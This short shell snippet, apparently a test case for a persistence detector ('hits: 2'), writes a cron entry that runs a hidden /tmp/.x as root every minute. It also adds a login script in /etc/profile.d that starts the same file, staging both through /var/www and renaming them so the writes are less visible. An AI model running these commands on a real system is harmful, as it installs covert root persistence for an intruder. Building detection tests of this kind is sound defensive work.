# SPDX-License-Identifier: Apache-2.0
# hits: 2
mkdir -p /var/www /etc/profile.d
echo '* * * * * root /tmp/.x' > /var/www/x && mv /var/www/x /etc/cron.d/x
echo '/tmp/.x &' > /var/www/y && perl -e 'rename "/var/www/y", "/etc/profile.d/y.sh"'
